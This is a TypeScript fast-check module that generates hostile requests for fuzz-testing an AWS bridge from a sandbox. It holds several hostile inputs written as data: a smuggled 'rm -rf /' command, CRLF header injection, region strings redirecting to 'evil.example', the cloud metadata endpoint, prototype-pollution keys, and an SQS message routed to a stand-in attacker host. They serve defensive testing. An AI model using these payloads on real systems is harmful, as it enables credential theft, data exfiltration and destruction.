/**
 * Generated hostile bridge requests (fast-check): mangled service/operation names, region injection
 * strings, prototype-pollution keys, URL-valued parameters pointing elsewhere, credential-issuing and
 * write operations for a read-only principal, and raw garbage payloads.
 */
import fc from "fast-check";

/** Hostname that must never receive a signed request. */
export const EVIL_HOST = "evil.example";

const services = fc.constantFrom(
  "s3",
  "S3",
  "sts",
  "iam",
  "ec2",
  "sqs",
  "sso",
  "lambda",
  "__proto__",
  "constructor",
  "../s3",
  "s3\u0000",
  "ſ3",
  "",
  "x".repeat(300),
);
const operations = fc.constantFrom(
  "ListBuckets",
  "list_buckets",
  "LISTBUCKETS",
  "GetObject",
  "PutObject",
  "DeleteBucket",
  "AssumeRole",
  "AssumeRoleWithWebIdentity",
  "GetSessionToken",
  "GetFederationToken",
  "GetRoleCredentials",
  "CreateAccessKey",
  "GeneratePresignedUrl",
  "presign",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "ListBuckets; rm -rf /",
  "SendMessage",
);
const regions = fc.constantFrom(
  null,
  "us-east-1",
  "eu-west-1",
  `x@${EVIL_HOST}:443/#`,
  `us-east-1.${EVIL_HOST}`,
  "us-east-1/../../",
  "localhost",
  "127.0.0.1:9",
  "us-east-1\r\nHost: evil",
  "US-EAST-1",
  "",
);
const protoKeys = fc.constantFrom(
  "__proto__",
  "constructor",
  "prototype",
  "Bucket",
  "QueueUrl",
  "Key",
  "Endpoint",
);
const leaf = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(`https://${EVIL_HOST}/queue`),
  fc.constant("http://169.254.169.254/latest/meta-data/"),
  fc.constant({ $bytes: "AP8=" }),
  fc.constant({ $date: "not a date" }),
);
const params = fc.letrec((tie) => ({
  value: fc.oneof({ depthSize: "small" }, leaf, fc.array(tie("value"), { maxLength: 4 }), tie("object")),
  object: fc.dictionary(fc.oneof(protoKeys, fc.string({ maxLength: 12 })), tie("value"), { maxKeys: 5 }),
})).object;

/** A JSON payload as a hostile sandbox would send it. */
export const hostileBridgePayload: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .record({
        op: fc.constant("aws.call"),
        service: services,
        operation: operations,
        region: regions,
        params: fc.option(params),
      })
      .map((r) => JSON.stringify(r)),
  },
  {
    weight: 1,
    arbitrary: fc
      .record({
        op: fc.constantFrom("aws.paginator", "aws.presign", "__proto__"),
        service: services,
        operation: operations,
      })
      .map((r) => JSON.stringify(r)),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '{"op":"aws.call","service":"s3","operation":"ListBuckets","__proto__":{"polluted":true}}',
      '{"op":"aws.call","service":"s3","operation":"ListBuckets","params":{"__proto__":{"polluted":true}}}',
      '{"op":"aws.call","service":"s3","operation":"ListBuckets","params":{"constructor":{"prototype":{"polluted":true}}}}',
      `{"op":"aws.call","service":"sqs","operation":"SendMessage","params":{"QueueUrl":"https://${EVIL_HOST}/1/q","MessageBody":"x"}}`,
      `${"[".repeat(5000)}${"]".repeat(5000)}`,
      "not json",
      "",
      "null",
      '{"op":"aws.call"}',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
);
